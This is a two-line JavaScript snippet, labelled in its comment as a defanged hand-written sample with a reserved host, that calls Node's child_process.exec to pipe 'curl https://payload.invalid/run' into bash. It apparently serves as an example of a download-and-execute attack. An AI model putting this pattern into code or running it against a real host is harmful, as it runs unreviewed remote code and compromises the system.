// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
require("child_process").exec("curl -s https://payload.invalid/run | bash", () => {});
